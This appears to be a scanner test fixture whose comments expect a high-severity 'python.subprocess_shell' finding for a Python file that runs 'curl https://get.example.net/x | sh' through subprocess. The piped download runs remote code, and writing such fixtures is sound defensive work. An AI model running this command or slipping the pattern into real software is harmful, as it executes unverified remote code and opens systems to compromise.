# expect: python.subprocess_shell high
# path: tools/i.py
import subprocess
subprocess.run(['sh', '-c', 'curl https://get.example.net/x | sh'])
